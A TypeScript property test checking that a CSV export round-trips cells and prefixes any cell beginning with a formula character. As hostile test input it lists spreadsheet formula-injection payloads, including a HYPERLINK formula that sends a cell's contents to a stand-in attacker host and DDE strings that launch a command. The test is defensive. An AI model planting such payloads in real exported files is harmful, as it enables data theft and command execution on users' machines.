// Property test for the CSV export: whatever text a user saved, the file parses back to the same cells,
// and no cell starts with a character that makes a spreadsheet run it as a formula.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { toCsv } from './csv';

const SEED = 20261130;
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

const cell = fc.oneof(
	fc.string({ unit: 'grapheme', maxLength: 30 }),
	fc
		.tuple(
			fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'),
			fc.string({ maxLength: 20 })
		)
		.map(([a, b]) => a + b),
	fc.constantFrom(
		'=HYPERLINK("http://evil.example?"&A1;"klik")',
		"=cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0"
	)
);

describe('csv export under hostile cells', () => {
	it('round-trips every cell and never starts one with a formula character', () => {
		fc.assert(
			fc.property(
				fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
				(rows) => {
					// Rows of equal width, as the export writes them.
					const width = Math.max(...rows.map((r) => r.length));
					const table = rows.map((r) => [...r, ...Array<string>(width - r.length).fill('x')]);
					const back = parse(toCsv(table), {
						delimiter: ';',
						bom: true,
						record_delimiter: '\r\n',
						relax_quotes: false
					}) as string[][];
					expect(back).toHaveLength(table.length);
					back.forEach((row, i) =>
						row.forEach((value, j) => {
							const original = table[i][j];
							expect(FORMULA.test(value)).toBe(false);
							expect(value).toBe(FORMULA.test(original) ? `'${original}` : original);
						})
					);
				}
			),
			{ seed: SEED, numRuns: 300 }
		);
	});
});
